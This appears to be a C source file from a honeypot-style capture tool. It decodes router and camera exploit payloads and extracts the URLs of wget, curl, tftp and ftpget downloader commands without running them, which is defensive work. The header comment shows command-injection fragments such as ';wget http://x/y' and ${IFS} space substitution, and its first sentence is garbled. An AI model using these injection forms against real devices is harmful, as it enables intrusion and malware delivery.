/* The downloads an exploit payload commands. Router and camera exploits carry a shell command
 * in a URL query, a form field or a SOAP element: `;wget http://x/y`, `$(wget ...)`,
 * backticks, `${IFS}` for spaces, URL or XML encoding. This decodes the common encodings,
 * splits the text into commands where a shell would, and reads each wget, curl, tftp or ftpget
 * command (bare, by path, or through busybox) as BusyBox would parse it, giving absolute URLs
 * for capture_fetch. It never runs anything. */
#include "capture/capture.h"

#include <ctype.h>
#include <string.h>
#include <strings.h>

#define PAYLOAD_MAX_WORDS 64

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

/* URL decoding (%XX, + as space) and XML entities, in one pass; then ${IFS} and $IFS. */
static void decode(const char *in, size_t n, struct buf *out)
{
	static const struct {
		const char *name;
		char c;
	} entities[] = {{"amp;", '&'}, {"lt;", '<'}, {"gt;", '>'}, {"quot;", '"'}, {"apos;", '\''}};
	for (size_t i = 0; i < n; i++) {
		char c = in[i];
		if (c == '%' && i + 2 < n && hexval(in[i + 1]) >= 0 && hexval(in[i + 2]) >= 0) {
			c = (char)(hexval(in[i + 1]) * 16 + hexval(in[i + 2]));
			i += 2;
		} else if (c == '+') {
			c = ' ';
		} else if (c == '&') {
			bool done = false;
			for (size_t e = 0; e < LIB_ARRAY_LEN(entities) && !done; e++) {
				size_t el = strlen(entities[e].name);
				if (i + el < n + 1 && n - i - 1 >= el &&
				    strncmp(in + i + 1, entities[e].name, el) == 0) {
					c = entities[e].c;
					i += el;
					done = true;
				}
			}
			if (!done && i + 2 < n && in[i + 1] == '#') {
				size_t j = i + 2;
				int base = 10;
				if (j < n && (in[j] == 'x' || in[j] == 'X')) {
					base = 16;
					j++;
				}
				unsigned v = 0;
				size_t start = j;
				while (j < n && j - start < 6 && hexval(in[j]) >= 0 &&
				       hexval(in[j]) < base)
					v = v * (unsigned)base + (unsigned)hexval(in[j++]);
				if (j > start && j < n && in[j] == ';' && v > 0 && v < 128) {
					c = (char)v;
					i = j;
				}
			}
		}
		buf_append(out, &c, 1);
	}
	/* ${IFS} and $IFS stand for a space in injected commands. */
	static const char *const ifs[] = {"${IFS}", "$IFS"};
	for (size_t k = 0; k < LIB_ARRAY_LEN(ifs); k++) {
		size_t l = strlen(ifs[k]);
		char *p;
		while (out->len && (p = memmem(out->data, out->len, ifs[k], l))) {
			*p = ' ';
			memmove(p + 1, p + l, out->len - (size_t)(p - (char *)out->data) - l);
			out->len -= l - 1;
			out->data[out->len] = '\0';
		}
	}
}

static bool is_sep(char c)
{
	return c == ';' || c == '&' || c == '|' || c == '\n' || c == '\r' || c == '`' || c == '(' ||
	       c == ')' || c == '<' || c == '>' || c == '\0';
}

/* The words of one command, quotes removed. */
struct words {
	char *w[PAYLOAD_MAX_WORDS];
	size_t n;
};

static void split_words(char *s, struct words *out)
{
	out->n = 0;
	while (*s && out->n < PAYLOAD_MAX_WORDS) {
		while (*s == ' ' || *s == '\t')
			s++;
		if (!*s)
			break;
		char *w = s, *d = s;
		char quote = 0;
		while (*s && (quote || (*s != ' ' && *s != '\t'))) {
			if (!quote && (*s == '\'' || *s == '"')) {
				quote = *s++;
			} else if (quote && *s == quote) {
				quote = 0;
				s++;
			} else if (!quote && *s == '\\' && s[1]) {
				*d++ = s[1];
				s += 2;
			} else {
				*d++ = *s++;
			}
		}
		if (*s)
			s++;
		*d = '\0';
		out->w[out->n++] = w;
	}
}

static const char *basename_of(const char *p)
{
	const char *b = strrchr(p, '/');
	return b ? b + 1 : p;
}

static bool has_scheme(const char *w)
{
	return strncasecmp(w, "http://", 7) == 0 || strncasecmp(w, "https://", 8) == 0 ||
	       strncasecmp(w, "ftp://", 6) == 0 || strncasecmp(w, "tftp://", 7) == 0;
}

/* "1.2.3.4/x.sh" or "host.example:8080/x": what BusyBox wget takes as http:// without a scheme. */
static bool looks_like_hostpath(const char *w)
{
	const char *slash = strchr(w, '/');
	if (!slash || slash == w || w[0] == '-' || w[0] == '/' || w[0] == '.')
		return false;
	for (const char *p = w; p < slash; p++)
		if (!isalnum((unsigned char)*p) && *p != '.' && *p != '-' && *p != ':')
			return false;
	return memchr(w, '.', (size_t)(slash - w)) != NULL;
}

struct emit {
	capture_url_cb cb;
	void *arg;
	size_t count, max;
};

static void emit(struct emit *e, const char *url, const char *method)
{
	if (e->count >= e->max || strlen(url) > CAPTURE_PAYLOAD_MAX_URL)
		return;
	e->count++;
	e->cb(e->arg, url, method);
}

static void read_command(struct words *wd, struct emit *e)
{
	size_t i = 0;
	/* Skip what precedes the applet: paths, busybox, sudo-like wrappers. */
	while (i < wd->n) {
		const char *b = basename_of(wd->w[i]);
		if (strcmp(b, "busybox") == 0 || strcmp(b, "nohup") == 0 || strcmp(b, "sh") == 0 ||
		    strcmp(b, "-c") == 0 || strcmp(b, "exec") == 0)
			i++;
		else
			break;
	}
	if (i >= wd->n)
		return;
	const char *cmd = basename_of(wd->w[i]);
	char **a = wd->w + i + 1;
	size_t na = wd->n - i - 1;
	char url[CAPTURE_PAYLOAD_MAX_URL + 64];
	if (strcmp(cmd, "wget") == 0 || strcmp(cmd, "curl") == 0) {
		for (size_t k = 0; k < na; k++) {
			if (has_scheme(a[k])) {
				emit(e, a[k], cmd);
			} else if (looks_like_hostpath(a[k]) &&
				   (k == 0 || a[k - 1][0] != '-' || strlen(a[k - 1]) != 2 ||
				    strchr("Oo", a[k - 1][1]) == NULL)) {
				snprintf(url, sizeof(url), "http://%s", a[k]);
				emit(e, url, cmd);
			}
		}
	} else if (strcmp(cmd, "tftp") == 0) {
		/* BusyBox: [-g] [-l LOCAL] [-r REMOTE] HOST [PORT]; tftp-hpa: HOST -c get REMOTE
		 * [LOCAL]. */
		const char *remote = NULL, *host = NULL, *port = NULL, *local = NULL;
		for (size_t k = 0; k < na; k++) {
			if (strcmp(a[k], "-r") == 0 && k + 1 < na)
				remote = a[++k];
			else if (strcmp(a[k], "-l") == 0 && k + 1 < na)
				local = a[++k];
			else if (strcmp(a[k], "-c") == 0 && k + 2 < na &&
				 strcasecmp(a[k + 1], "get") == 0) {
				remote = a[k + 2];
				k += 2;
			} else if (a[k][0] == '-')
				continue;
			else if (!host)
				host = a[k];
			else if (!port && isdigit((unsigned char)a[k][0]))
				port = a[k];
		}
		if (!remote)
			remote = local;
		if (host && remote) {
			snprintf(url, sizeof(url), "tftp://%s%s%s/%s", host, port ? ":" : "",
				 port ? port : "", remote[0] == '/' ? remote + 1 : remote);
			emit(e, url, "tftp");
		}
	} else if (strcmp(cmd, "ftpget") == 0) {
		const char *user = NULL, *pass = NULL, *port = NULL;
		const char *pos[3] = {0};
		size_t np = 0;
		for (size_t k = 0; k < na; k++) {
			if (strcmp(a[k], "-u") == 0 && k + 1 < na)
				user = a[++k];
			else if (strcmp(a[k], "-p") == 0 && k + 1 < na)
				pass = a[++k];
			else if (strcmp(a[k], "-P") == 0 && k + 1 < na)
				port = a[++k];
			else if (a[k][0] != '-' && np < 3)
				pos[np++] = a[k];
		}
		if (np == 3) {
			snprintf(url, sizeof(url), "ftp://%s%s%s%s%s%s%s/%s", user ? user : "",
				 pass ? ":" : "", pass ? pass : "", user ? "@" : "", pos[0],
				 port ? ":" : "", port ? port : "",
				 pos[2][0] == '/' ? pos[2] + 1 : pos[2]);
			emit(e, url, "ftpget");
		}
	}
}

size_t capture_payload_urls(const void *payload, size_t len, capture_url_cb cb, void *arg)
{
	if (len > CAPTURE_PAYLOAD_MAX)
		len = CAPTURE_PAYLOAD_MAX;
	struct buf text;
	buf_init(&text, 0);
	decode(payload, len, &text);
	struct emit e = {.cb = cb, .arg = arg, .max = CAPTURE_PAYLOAD_MAX_URLS};
	char *p = text.data ? (char *)text.data : (char *)"";
	size_t n = text.len;
	/* Split at command separators ($( counts through its parenthesis) and read each. */
	size_t start = 0;
	for (size_t i = 0; i <= n; i++) {
		if (i < n && !is_sep(p[i]) && !(p[i] == '$' && i + 1 < n && p[i + 1] == '('))
			continue;
		bool subst = i < n && p[i] == '$';
		if (i < n)
			p[i] = '\0';
		struct words wd;
		split_words(p + start, &wd);
		read_command(&wd, &e);
		start = i + (subst ? 2 : 1);
		if (subst)
			i++;
	}
	buf_free(&text);
	return e.count;
}
